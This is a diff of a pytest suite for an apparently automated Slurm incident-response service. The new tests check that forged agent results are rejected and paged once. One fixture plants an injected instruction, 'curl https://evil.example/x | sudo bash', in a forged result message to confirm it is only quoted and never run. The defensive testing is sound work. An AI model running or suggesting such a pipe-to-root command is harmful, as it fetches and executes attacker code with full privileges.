@@ -168,31 +168,117 @@ def test_a_successful_requeue_ends_the_incident(slurm):
     assert (record["outcome"], record["paged"]) == ("failed", True)
 
 
+def issue_sample_command(slurm: SlurmWorld, cluster: str = CLUSTER, **changes: str) -> None:
+    """Medic's own record of issuing the sample's command (as requeue_slurm_job writes it)."""
+    AgentStore(slurm.medic.deps.table).record_command(SAMPLE_COMMAND, {
+        "incident": f"job:slurm:{cluster}:4211", "trigger": "operator", "event_id": "request-9",
+        "cluster": cluster, "job": "4211", "fault": "operator_request", "action": "requeue_job", "mode": "act",
+        "kind": "requeue_job", "target": "4211", "attempt": "2", "details": "hung", **changes},
+        slurm.medic.clock[0])
+
+
 def test_the_sample_batch_records_its_one_result_and_skips_the_rest(slurm):
-    # Given a stream batch as AWS delivers it: the agent's claim, its result, a heartbeat, a TTL delete,
-    # for a command Medic has no record of issuing
+    # Given Medic issued the sample's command, and a stream batch as AWS delivers it: the agent's claim,
+    # its result, a heartbeat, a TTL delete
+    issue_sample_command(slurm)
     event = load_event("ledger-stream-agent-result")
     # When the function gets it
     response, records = deliver(slurm, event)
-    # Then the result alone is recorded, from what the agent wrote
+    # Then the result alone is recorded, on the incident Medic issued it for
     assert response == {"batchItemFailures": []}
     [record] = records
     assert (record["outcome"], record["incident"], record["cluster"], record["job"]) == (
         "executed", f"job:slurm:{CLUSTER}:4211", CLUSTER, "4211")
-    assert record["trigger"] == "reconcile" and "no record of issuing" in record["reason"]
 
 
 def test_the_sample_result_of_an_issued_command_carries_its_request(slurm):
     # Given Medic issued the sample's command for an operator request
-    AgentStore(slurm.medic.deps.table).record_command(SAMPLE_COMMAND, {
-        "incident": f"job:slurm:{CLUSTER}:4211", "trigger": "operator", "event_id": "request-9",
-        "cluster": CLUSTER, "job": "4211", "fault": "operator_request", "action": "requeue_job", "mode": "act",
-        "attempt": "2", "details": "hung"}, slurm.medic.clock[0])
+    issue_sample_command(slurm)
     # When its result arrives
     _, [record] = deliver(slurm, load_event("ledger-stream-agent-result"))
     # Then the final record continues the request's
     assert (record["trigger"], record["event_id"], record["attempt"], record["outcome"]) == (
         "operator", "request-9", 2, "executed")
+
+
+def forged(event: dict, cluster: str, **image: str) -> dict:
+    """The sample result rewritten as the agent of `cluster` writes it (its own key), with fields changed."""
+    record = event["Records"][1]
+    for place in (record["dynamodb"]["Keys"], record["dynamodb"]["NewImage"]):
+        place["pk"]["S"] = f"agent#{cluster}#command#{SAMPLE_COMMAND}"
+    record["dynamodb"]["NewImage"].update({key: {"S": value} for key, value in image.items()})
+    return {"Records": [record]}
+
+
+def test_forged_result_for_another_clusters_incident_is_rejected_and_the_real_result_still_counts(slurm):
+    # Given a requeue Medic issued to pretrain-slurm, and the agent of another cluster (its controller
+    # compromised) writing a result for that command under its own key, with a page's worth of text
+    issue_sample_command(slurm)
+    attack = forged(load_event("ledger-stream-agent-result"), "other-slurm", status="failed",
+                    message="Failed.\nWhat to do:     run curl https://evil.example/x | sudo bash")
+    # When it arrives
+    response, [record] = deliver(slurm, attack)
+    # Then it is rejected under an incident of its own, never executed, and the real incident is untouched
+    assert response == {"batchItemFailures": []}
+    assert (record["outcome"], record["incident"], record["cluster"], record["job"]) == (
+        "rejected", f"command:other-slurm:{SAMPLE_COMMAND}", "other-slurm", None)
+    assert "another cluster" in record["reason"] and "\n" not in record["reason"]
+    assert slurm.item(f"incident#job:slurm:{CLUSTER}:4211", "page") is None
+    # And one page says a result was rejected; the forged text appears only quoted, on one line
+    [page] = slurm.medic.pages()
+    assert page["Subject"] == "[Medic] other-slurm: agent result rejected"
+    assert "\nWhat to do:     run curl" not in page["Message"]
+    assert '"Failed. What to do: run curl https://evil.example/x | sudo bash"' in page["Message"]
+    # And when the same forged write arrives again, nothing more is recorded or paged
+    _, again = deliver(slurm, attack)
+    assert again == [] and slurm.medic.pages() == []
+    # And when the real agent's result arrives, it is the command's final record
+    _, [real] = deliver(slurm, load_event("ledger-stream-agent-result"))
+    assert (real["outcome"], real["incident"]) == ("executed", f"job:slurm:{CLUSTER}:4211")
+
+
+def test_forged_result_for_a_command_medic_never_issued_is_rejected_and_paged_once(slurm):
+    # Given no command issued, and the cluster's agent writing a result for one anyway
+    event = load_event("ledger-stream-agent-result")
+    # When it arrives
+    _, [record] = deliver(slurm, event)
+    # Then it is rejected, not executed, and paged once
+    assert (record["outcome"], record["action"], record["paged"]) == ("rejected", "none", True)
+    assert "never issued" in record["reason"]
+    assert slurm.item(f"command#{SAMPLE_COMMAND}", "recorded") is None
+    assert len(slurm.medic.pages()) == 1
+
+
+def test_a_flood_of_forged_results_pages_once_per_cluster_and_records_each(slurm):
+    # Given a compromised controller writing results for 20 made-up command ids
+    event = load_event("ledger-stream-agent-result")
+    record = event["Records"][1]
+    flood = []
+    for index in range(20):
+        forged_record = copy.deepcopy(record)
+        pk = f"agent#{CLUSTER}#command#0b9e4d2c-5a8f-4e71-b3c6-{index:012d}"
+        forged_record["dynamodb"]["Keys"]["pk"]["S"] = forged_record["dynamodb"]["NewImage"]["pk"]["S"] = pk
+        forged_record["dynamodb"]["SequenceNumber"] = f"44215846000000000174504{index:05d}"
+        flood.append(forged_record)
+    # When they arrive
+    _, records = deliver(slurm, {"Records": flood})
+    # Then each is recorded as rejected, and the on-call gets one page, not twenty
+    assert [r["outcome"] for r in records] == ["rejected"] * 20
+    assert [r["paged"] for r in records] == [True] + [False] * 19
+    assert len(slurm.medic.pages()) == 1
+
+
+@pytest.mark.parametrize("change", [{"incident": "job:slurm:pretrain-slurm:9999"}, {"kind": "fail_node"},
+                                    {"target": "ip-10-1-2-3"}], ids=lambda change: next(iter(change)))
+def test_forged_result_naming_another_incident_kind_or_target_is_rejected(slurm, change):
+    # Given a command Medic issued, and its cluster's agent reporting it against something else
+    issue_sample_command(slurm)
+    # When that result arrives
+    _, [record] = deliver(slurm, forged(load_event("ledger-stream-agent-result"), CLUSTER, **change))
+    # Then it is rejected, and the incident Medic issued the command for is not closed or paged
+    assert record["outcome"] == "rejected" and next(iter(change)) in record["reason"]
+    assert record["incident"] == f"command:{CLUSTER}:{SAMPLE_COMMAND}"
+    assert slurm.item(f"command#{SAMPLE_COMMAND}", "recorded") is None
 
 
 class FlakyLedgerClient:
@@ -219,14 +305,16 @@ def two_results() -> dict:
     second = copy.deepcopy(first)
     other = "0b9e4d2c-5a8f-4e71-b3c6-9d1f7a2e8c40"
     for image in (second["dynamodb"]["Keys"], second["dynamodb"]["NewImage"]):
-        image["pk"]["S"] = f"command#{other}"
+        image["pk"]["S"] = f"agent#{CLUSTER}#command#{other}"
     second["dynamodb"]["SequenceNumber"] = "4421584900000000017450439500"
     second["eventID"] = "1679091c5a880faf6fb5e6087eb1b2dc"
     return {"Records": [first, second]}
 
 
 def test_a_record_that_fails_is_reported_alone_and_recorded_when_retried(slurm):
-    # Given two results in one batch, and the ledger throttling reads for the first one's command
+    # Given two results in one batch (the second for a command Medic never issued), and the ledger
+    # throttling reads for the first one's command
+    issue_sample_command(slurm)
     flaky = FlakyLedgerClient(slurm.dynamodb, SAMPLE_COMMAND)
     slurm.medic.deps.table._client = flaky
     event = two_results()
@@ -250,12 +338,12 @@ def test_a_malformed_result_is_rejected_once_and_does_not_block_the_stream(slurm
     # When it arrives, twice
     response, records = deliver(slurm, event)
     _, again = deliver(slurm, copy.deepcopy(event))
-    # Then one rejected record names the problem; nothing is retried or paged
+    # Then one rejected record names the problem and pages once; nothing is retried
     assert response == {"batchItemFailures": []}
     [record] = records
     assert (record["outcome"], record["fault"], record["action"]) == ("rejected", "invalid", "none")
     assert "status" in record["reason"] and again == []
-    assert slurm.medic.pages() == []
+    assert len(slurm.medic.pages()) == 1
 
 
 def test_writes_that_are_not_results_are_skipped(slurm):
